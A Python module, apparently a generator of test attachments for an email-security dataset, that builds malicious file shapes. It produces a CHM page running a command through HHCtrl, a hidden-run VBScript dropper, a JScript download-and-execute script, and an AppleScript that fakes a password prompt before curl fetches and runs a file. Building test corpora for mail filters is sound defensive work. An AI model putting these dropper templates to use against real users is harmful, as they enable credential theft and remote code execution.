"""Set D's extra inert attachment shapes, built on mail_src/binaries.py (imported unchanged).

Deterministic; the payloads name invented hosts and do nothing.
"""

from __future__ import annotations

import struct

from binaries import FIXED_EPOCH, pseudo_random


def chm(title: str, command: str, seed: str) -> bytes:
    """The start of a Compiled HTML Help file (ITSF/ITSP headers) whose page runs `command` through
    the HHCtrl ShortCut object, the shape CHM droppers use."""
    page = (f"<html><head><title>{title}</title></head><body>"
            '<OBJECT id=hh classid="clsid:adb880a6-d8ff-11cf-9377-00aa003b7a11" width=1 height=1>'
            '<PARAM name="Command" value="ShortCut"><PARAM name="Button" value="Bitmap::shortcut">'
            f'<PARAM name="Item1" value=",{command}">'
            '<PARAM name="Item2" value="273,1,1"></OBJECT>'
            f"<script>hh.Click();</script><h3>{title}</h3></body></html>").encode()
    header = b"ITSF" + struct.pack("<IIIII", 3, 0x60, 1, FIXED_EPOCH & 0xFFFFFFFF, 0x804)
    header += pseudo_random(f"chm-d:{seed}", 32) + struct.pack("<QQQQ", 0x60, 0x1C, 0x7C, 0x1000)
    header = header.ljust(0x60, b"\x00")
    itsp = (b"ITSP" + struct.pack("<IIIIIIIII", 1, 0x54, 0x0A, 0x1000, 2, 1, 0xFFFFFFFF, 0, 0x804)).ljust(0x54, b"\x00")
    pmgl = (b"PMGL" + struct.pack("<IIii", 0, 0, -1, -1) + b"\x0b/report.htm" + b"\x00\x00\x00").ljust(0x200, b"\x00")
    return header + itsp + pmgl + page


def vbs(command: str, decoy: str) -> bytes:
    """A VBScript dropper: opens a decoy URL and runs `command` hidden."""
    return (f'Set sh = CreateObject("WScript.Shell")\r\n'
            f'sh.Run "{decoy}", 1, False\r\n'
            f'sh.Run "{command}", 0, False\r\n').encode()


def jscript(url: str) -> bytes:
    return (f'var x = new ActiveXObject("MSXML2.XMLHTTP");\r\nx.open("GET", "{url}", false);\r\nx.send();\r\n'
            'var s = new ActiveXObject("WScript.Shell");\r\n'
            'var p = s.ExpandEnvironmentStrings("%TEMP%") + "\\\\upd.js";\r\n'
            'var f = new ActiveXObject("Scripting.FileSystemObject").CreateTextFile(p, true);\r\n'
            'f.Write(x.responseText); f.Close();\r\ns.Run("wscript //B " + p, 0, false);\r\n').encode()


def applescript(url: str, prompt: str) -> bytes:
    """A plain-text .scpt (osascript runs source files too) that fakes a password prompt and fetches a script."""
    return (f'set r to display dialog "{prompt}" default answer "" with hidden answer with icon caution\n'
            'set pw to text returned of r\n'
            f'do shell script "curl -fsSL {url} -o /tmp/.u && chmod +x /tmp/.u && /tmp/.u " & quoted form of pw\n'
            ).encode()
